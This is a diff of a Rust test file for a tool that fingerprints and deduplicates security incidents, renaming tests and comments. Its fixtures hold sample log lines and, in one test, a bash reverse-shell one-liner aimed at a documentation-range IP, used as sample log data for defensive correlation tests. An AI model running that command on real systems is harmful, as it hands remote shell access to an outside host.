@@ -28,7 +28,7 @@ fn same(a: &Fingerprint, b: &Fingerprint) -> bool {
 const FAILED: &str = "Failed password for admin from 203.0.113.45 port 51502 ssh2";
 
 #[test]
-fn wording_makes_no_difference() {
+fn wording_does_not_matter() {
     let first = subject(Category::Intrusion, "Burst of failed logins", &[FAILED]);
     for (category, title, quotes) in [
         (
@@ -62,7 +62,7 @@ fn wording_makes_no_difference() {
 }
 
 #[test]
-fn two_attacks_on_one_host_stay_two() {
+fn two_attacks_on_one_host_are_separate() {
     let c = Category::Intrusion;
     let attacks = [
         subject(c, "Attack on web-01", &[FAILED, "index=auth host=web-01"]),
@@ -103,7 +103,7 @@ fn two_attacks_on_one_host_stay_two() {
 }
 
 #[test]
-fn the_same_trouble_elsewhere_is_another() {
+fn same_activity_on_another_host_is_separate() {
     let c = Category::Availability;
     let line = |pod: &str| format!("{pod} 0/1 CrashLoopBackOff 27 (41s ago)");
     let worker = subject(c, "Crash loop", &[&line("ledger-worker-59d7c8f6b-k2vnq")]);
@@ -133,7 +133,7 @@ fn the_same_trouble_elsewhere_is_another() {
 }
 
 #[test]
-fn what_was_only_seen_goes_by_its_title() {
+fn findings_without_quotes_are_compared_by_title() {
     let c = Category::Anomaly;
     let first = subject(c, "Unusual dip in checkout orders graph", &[]);
     assert!(same(
@@ -152,7 +152,7 @@ fn what_was_only_seen_goes_by_its_title() {
 }
 
 #[test]
-fn a_summary_of_two_does_not_swallow_the_second() {
+fn summary_of_two_incidents_joins_one() {
     let c = Category::Intrusion;
     let shell = "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1";
     let mut chain = subject(c, "Brute force, then a shell", &[FAILED]);
@@ -165,7 +165,7 @@ fn a_summary_of_two_does_not_swallow_the_second() {
 }
 
 #[test]
-fn a_repeat_teaches_nothing() {
+fn repeat_adds_nothing() {
     let mut first = subject(Category::Intrusion, "Burst", &[FAILED]);
     let again = subject(
         Category::Intrusion,
@@ -181,7 +181,7 @@ fn a_repeat_teaches_nothing() {
 }
 
 #[test]
-fn what_is_stored_reads_back_the_same() {
+fn stored_fingerprint_round_trips() {
     let mut subject = subject(Category::Intrusion, "Attack on web-01", &[FAILED]);
     let text = serde_json::to_string(&subject).unwrap();
     // Kept for a finding only.
@@ -189,19 +189,19 @@ fn what_is_stored_reads_back_the_same() {
     assert_eq!(serde_json::from_str::<Fingerprint>(&text).unwrap(), subject);
 }
 
-/// A line of who does something and to whom.
+/// Line with an attacker and a target.
 type SentenceForm<'a> = &'a dyn Fn(&str, &str) -> String;
 
-/// Whoever does it tells two attacks apart; whom it is done to, and who else is
-/// by, does not make them one.
+/// Attackers distinguish two attacks; a common target or bystander does not
+/// join them.
 #[test]
-fn whoever_shares_a_victim_or_a_resolver_is_another() {
+fn shared_victim_or_resolver_does_not_join() {
     let c = Category::Intrusion;
     let firewall =
         |from: &str, to: &str| format!("port scan SRC={from} DST={to} PROTO=TCP dropped");
     let flow = |from: &str, to: &str| format!("nmap {from}:40001 -> {to}:22 SYN denied");
     let bare = |one: &str, other: &str| format!("port scan {one} {other} tcp denied");
-    let asked = |from: &str, to: &str| format!("{} answered by dns 192.0.2.53", bare(from, to));
+    let dns_query = |from: &str, to: &str| format!("{} answered by dns 192.0.2.53", bare(from, to));
     let failed =
         |from: &str, to: &str| format!("Failed password for admin from {from} on {to} ssh2");
     let called = |to: &str, from: &str| format!("beacon {from}:50000 -> {to}:443 every 60 s");
@@ -209,7 +209,7 @@ fn whoever_shares_a_victim_or_a_resolver_is_another() {
         ("firewall", &firewall),
         ("flow", &flow),
         ("bare", &bare),
-        ("asked", &asked),
+        ("asked", &dns_query),
         ("failed", &failed),
         ("beacon", &called),
     ];
@@ -220,11 +220,11 @@ fn whoever_shares_a_victim_or_a_resolver_is_another() {
         assert!(!same(&first, &scan(other, victim)), "{name}");
         assert!(!same(&first, &scan("203.0.113.45", victim)), "{name}");
         assert!(same(&first, &scan(one, victim)), "{name}");
-        // Told in other words, with whom it hits or without.
-        let told = subject(c, &format!("Trouble from {one}"), &[&line(one, victim)]);
-        assert!(same(&first, &told), "{name}");
+        // Other wordings, with and without the target.
+        let reworded = subject(c, &format!("Trouble from {one}"), &[&line(one, victim)]);
+        assert!(same(&first, &reworded), "{name}");
     }
-    // Where one tool tells the parts and the next does not.
+    // One tool states the roles and the next does not.
     let known = subject(c, "Scan", &[&firewall(one, victim)]);
     assert!(!same(&known, &subject(c, "Scan", &[&bare(other, victim)])));
     assert!(!same(&known, &subject(c, "Scan", &[&bare(victim, other)])));
@@ -240,7 +240,7 @@ fn whoever_shares_a_victim_or_a_resolver_is_another() {
 }
 
 #[test]
-fn many_attackers_at_once_stay_together_while_they_overlap() {
+fn overlapping_sets_of_attackers_join() {
     let c = Category::Intrusion;
     let lines = |range: std::ops::Range<u32>| -> Vec<String> {
         range
@@ -257,7 +257,7 @@ fn many_attackers_at_once_stay_together_while_they_overlap() {
 }
 
 #[test]
-fn names_that_ocr_reads_otherwise_are_the_same() {
+fn names_with_ocr_confusions_are_equal() {
     let c = Category::Intrusion;
     let first = subject(
         c,
@@ -271,7 +271,7 @@ fn names_that_ocr_reads_otherwise_are_the_same() {
     ] {
         assert!(same(&first, &subject(c, "Burst", &[line])), "{line}");
         assert_eq!(
-            first.stranger(&subject(c, "Burst", &[line])),
+            first.unknown_entity(&subject(c, "Burst", &[line])),
             None,
             "{line}"
         );
@@ -280,7 +280,7 @@ fn names_that_ocr_reads_otherwise_are_the_same() {
 
 /// Neither `db01` nor `db02` has a hyphen or a dot in it.
 #[test]
-fn machines_with_short_names_are_different_machines() {
+fn short_host_names_are_distinguished() {
     let on = |host: &str| {
         subject(
             Category::Intrusion,
